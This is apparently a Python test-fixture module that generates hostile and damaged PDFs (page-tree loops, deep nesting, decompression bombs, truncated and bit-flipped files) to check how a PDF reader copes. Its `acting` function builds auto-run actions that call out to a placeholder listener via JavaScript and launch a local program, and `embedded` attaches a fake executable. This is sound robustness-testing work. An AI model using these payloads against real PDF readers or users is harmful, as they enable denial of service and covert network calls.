"""PDFs built to do harm, or damaged."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator, Sequence

from hostile.specimen import Specimen, honest, specimen

MiB = 2**20


def specimens(listener: str) -> Iterator[Specimen]:
    """Every such file that is made and read in no time; `listener` is the address of a server nobody may call."""
    yield specimen(
        "loop-of-pages.pdf", lambda: tree("<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 9 >>"), "refused", "part"
    )
    yield specimen("kids-of-kids.pdf", lambda: drawn(kids="2 0 R"))
    yield specimen("deep-kids.pdf", lambda: deep_kids(50_000))
    yield specimen("some-pages.pdf", lambda: drawn(kids="3 0 R " * 1_500, count=1_500))
    yield specimen("lying-count.pdf", lambda: drawn(count=2**31 - 1))
    yield specimen("negative-count.pdf", lambda: drawn(count=-5))
    yield specimen("loop-of-references.pdf", lambda: drawn(contents="4 0 R", stream_object="4 0 R"))
    yield specimen("loop-of-lengths.pdf", lambda: drawn(length="4 0 R"))
    yield specimen("loop-of-tables.pdf", loop_of_tables)
    yield specimen("loop-of-object-streams.pdf", loop_of_object_streams)
    for name, box in BOXES:
        yield specimen(f"box-{name}.pdf", lambda box=box: drawn(box=box))
    yield specimen("user-unit.pdf", lambda: drawn(extra="/UserUnit 1e9"))
    yield specimen("odd-rotation.pdf", lambda: drawn(extra="/Rotate 9999999999"))
    yield specimen("actions.pdf", lambda: acting(listener), "whole")
    yield specimen("embedded.pdf", embedded)
    yield specimen("form-in-itself.pdf", form_in_itself)
    yield specimen("many-filters.pdf", lambda: drawn(stream=b"x", filters="/ASCIIHexDecode " * 2000))
    yield specimen(
        "clip-in-clip.pdf", lambda: drawn(stream=SAID + b"0 0 9 9 re W n 0 0 m 5 0 l S " * 20_000, packed=True)
    )
    yield specimen(
        "odd-numbers.pdf", lambda: drawn(stream=b"1e99 -1e99 m 99999999999999999999 nan l S BT /F 1e30 Tf (1) Tj ET")
    )
    yield specimen("huge-image.pdf", lambda: pictured(60_000))
    yield specimen("deep-array.pdf", lambda: drawn(extra="/A " + "[" * 100_000))
    yield specimen("deep-dictionary.pdf", lambda: drawn(extra="/A " + "<< /A " * 100_000))
    yield specimen("no-end.pdf", lambda: honest("pdf").replace(b"endobj", b""), "refused", "part", "whole")
    yield specimen(
        "many-trailers.pdf", lambda: honest("pdf") + b"\nstartxref\n0\n%%EOF" * 200_000, "refused", "part", "whole"
    )
    yield specimen("two-in-one.pdf", lambda: honest("pdf") * 2, "whole", "part", "refused")
    yield specimen("page-in-front.pdf", lambda: b"<html><p>x</p></html>" + honest("pdf"), "refused", "whole")
    yield specimen(
        "wrong-key.pdf",
        lambda: honest("pdf").replace(b"trailer\n<<", b"trailer\n<< /Encrypt 3 0 R "),
        "refused",
        "whole",
    )
    for twentieth in range(1, 20):
        yield specimen(
            f"cut-{twentieth}.pdf",
            lambda n=twentieth: honest("pdf")[: len(honest("pdf")) * n // 20],
            "refused",
            "part",
            "whole",
        )
    for seed in range(6):
        yield specimen(
            f"flipped-{seed}.pdf", lambda seed=seed: flipped(honest("pdf"), seed), "refused", "part", "whole"
        )


def large(_listener: str = "") -> Iterator[Specimen]:
    """Those that are large, or take a while to read."""
    yield specimen("same-page.pdf", lambda: drawn(kids="3 0 R " * 100_000, count=100_000))
    yield specimen("forms-in-forms.pdf", lambda: forms(60, 2), "refused", "killed")
    yield specimen("forms-of-forms.pdf", lambda: forms(7, 9), "refused", "killed")
    yield specimen("inflating-stream.pdf", lambda: inflating(1))
    yield specimen("inflating-twice.pdf", lambda: inflating(2))
    yield specimen("many-strokes.pdf", lambda: drawn(stream=SAID + b"0 0 m 9 9 l S " * 1_000_000, packed=True))
    yield specimen("many-rules.pdf", lambda: drawn(stream=SAID + rules(3_000), packed=True))
    yield specimen("many-dashes.pdf", lambda: drawn(stream=SAID + dashes(60_000), packed=True))
    yield specimen(
        "many-characters.pdf",
        lambda: drawn(stream=b"BT /F 1 Tf 9 9 Td " + (b"(" + b"a" * 300 + b") Tj ") * 10_000 + b"ET", packed=True),
    )
    yield specimen("many-numbers.pdf", lambda: drawn(stream=numbers(200_000), packed=True))
    yield specimen("many-saves.pdf", lambda: drawn(stream=b"q " * 1_000_000 + b"Q " * 1_000_000, packed=True))
    yield specimen(
        "long-segment.pdf", lambda: drawn(stream=SAID + b"0 0 m " + b"9 9 l " * 1_000_000 + b"S", packed=True)
    )
    yield specimen("many-objects.pdf", lambda: drawn(more=["<< >>"] * 300_000))
    yield specimen("only-head.pdf", lambda: b"%PDF-1.7\n" + b"%" * 20 * MiB)
    yield specimen("nulls.pdf", lambda: b"%PDF-1.7\n" + bytes(60 * MiB))


SAID = b"BT /F 12 Tf 9 9 Td (1) Tj ET "

BOXES = (
    ("huge", "0 0 1e9 1e9"), ("huger", "0 0 1e38 1e38"), ("empty", "0 0 0 0"), ("point", "5 5 5 5"),
    ("nan", "0 0 nan nan"), ("turned", "612 792 0 0"), ("names", "/A /B /C /D"), ("short", "0 0"),
    ("negative", "-1e9 -1e9 1e9 1e9"), ("tiny", "0 0 1e-30 1e-30"), ("itself", "3 0 R"),
)  # fmt: skip


def built(objects: Sequence[str | bytes], trailer: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, with a true table."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, inside in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + (inside if isinstance(inside, bytes) else inside.encode()) + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(places) + 1,
        trailer.encode(),
        start,
    )
    return bytes(out)


def stream(content: bytes, more: str = "", length: str | None = None) -> bytes:
    """A stream object."""
    return f"<< /Length {length or len(content)} {more} >>\nstream\n".encode() + content + b"\nendstream"


def drawn(
    *,
    stream: bytes = b"BT /F 12 Tf 9 9 Td (1) Tj ET",
    packed: bool = False,
    filters: str = "",
    kids: str = "3 0 R",
    count: int = 1,
    box: str = "0 0 600 800",
    contents: str = "4 0 R",
    stream_object: str | None = None,
    length: str | None = None,
    extra: str = "",
    more: Sequence[str | bytes] = (),
) -> bytes:
    """A PDF of one page, one thing in it made wrong."""
    inside = zlib.compress(stream) if packed else stream
    how = f"/Filter [{filters or ('/FlateDecode' if packed else '')}]"
    font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    resources = "/Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >>"
    return built(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{kids}] /Count {count} >>",
            f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents {contents} {resources} {extra} >>",
            stream_object or globals()["stream"](inside, how, length),
            font,
            *(more or ["<< >>"]),
        ]
    )


def tree(pages: str) -> bytes:
    """A tree of pages that leads back to its own root."""
    inside = drawn()
    return inside.replace(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", pages.encode())


def deep_kids(depth: int) -> bytes:
    """Nodes of the page tree, each the only child of the one before."""
    nodes = [f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(2, depth + 2)]
    return built(["<< /Type /Catalog /Pages 2 0 R >>", *nodes, "<< /Type /Page /MediaBox [0 0 9 9] >>"])


def loop_of_tables() -> bytes:
    """A table of objects whose predecessor is itself."""
    content = built(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"])
    start = content.rindex(b"xref\n0")
    return content.replace(b"/Root", f"/Prev {start} /Root".encode())


def loop_of_object_streams() -> bytes:
    """Object streams that extend one another, and one that holds itself."""
    objects = stream(b"3 0 4 9 << >> << >>", "/Type /ObjStm /N 2 /First 8 /Extends 4 0 R")
    table = bytes([2, 0, 3, 0]) * 6
    inside = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", objects, objects]
    content = built([*inside, stream(table, "/Type /XRef /W [1 2 1] /Size 6 /Root 1 0 R")])
    at = content.index(b"5 0 obj")
    return content[: content.rindex(b"xref\n0")] + f"startxref\n{at}\n%%EOF".encode()


def acting(listener: str) -> bytes:
    """Everything that may start something when it is opened."""
    scripts = f"app.launchURL('{listener}/js'); this.submitForm('{listener}/form');"
    act = (
        f"/OpenAction << /S /JavaScript /JS ({scripts}) >> /AA << /WC << /S /Launch /F (/usr/bin/touch) >> "
        f"/O << /S /URI /URI ({listener}/uri) >> /E << /S /GoToR /F ({listener}/x.pdf) /D [0] >> "
        f"/I << /S /ImportData /F ({listener}/x.fdf) >> >>"
    )
    return honest("pdf").replace(b"/Type /Catalog", b"/Type /Catalog " + act.encode()) + b""


def embedded() -> bytes:
    """A PDF that carries a program."""
    return drawn(
        extra="/AF [6 0 R]", more=["<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ" * 9999)]
    )


def forms(depth: int, width: int) -> bytes:
    """Forms that draw forms, so many in each, so deep."""
    inner = [
        stream(
            b"/X Do " * width,
            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {n} 0 R >> >>",
        )
        for n in range(7, 7 + depth)
    ]
    last = stream(b"0 0 m 9 9 l S", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return drawn(stream=b"/X Do", more=[*inner, last])


def form_in_itself() -> bytes:
    """A form that draws itself."""
    itself = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    return drawn(stream=b"/X Do", more=[stream(b"/X Do", itself)])


def inflating(times: int) -> bytes:
    """A content stream that inflates a thousandfold, or a millionfold."""
    inside = bytes(200 * MiB) if times == 1 else zlib.compress(bytes(1000 * MiB), 9)
    return drawn(stream=zlib.compress(inside, 9), filters="/FlateDecode " * times)


def rules(count: int) -> bytes:
    """A page ruled that often, both ways: a lattice of millions of cells."""
    step = 500 / count
    level = b"".join(b"10 %.3f m 510 %.3f l S " % (10 + n * 4 * step, 10 + n * 4 * step) for n in range(count))
    upright = b"".join(b"%.3f 10 m %.3f 2010 l S " % (10 + n * 4 * step, 10 + n * 4 * step) for n in range(count))
    return level + upright


def dashes(count: int) -> bytes:
    """Very many short lines all over the page."""
    draw = random.Random(5)
    places = ((draw.uniform(0, 600), draw.uniform(0, 800)) for _ in range(count))
    return b"".join(
        b"%.2f %.2f m %.2f %.2f l S %.2f %.2f m %.2f %.2f l S " % (x, y, x + 7, y, x, y, x, y + 7) for x, y in places
    )


def numbers(count: int) -> bytes:
    """Very many numbers, each somewhere else."""
    draw = random.Random(6)
    said = (
        b"1 0 0 1 %.1f %.1f Tm (%d) Tj " % (draw.uniform(0, 600), draw.uniform(0, 800), n % 10) for n in range(count)
    )
    return b"BT /F 5 Tf " + b"".join(said) + b"ET"


def pictured(side: int) -> bytes:
    """A picture that says it is as large as a town."""
    size = f"/Width {side} /Height {side} /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    how = f"/Type /XObject /Subtype /Image {size} /Filter /FlateDecode"
    return drawn(stream=b"600 0 0 800 0 0 cm /X Do", more=[stream(zlib.compress(bytes(9 * MiB)), how)])


def flipped(content: bytes, seed: int, share: int = 2000) -> bytes:
    """The content with one byte in so many changed at random."""
    draw = random.Random(seed)
    changed = bytearray(content)
    for _ in range(max(1, len(content) // share)):
        changed[draw.randrange(len(changed))] = draw.randrange(256)
    return bytes(changed)
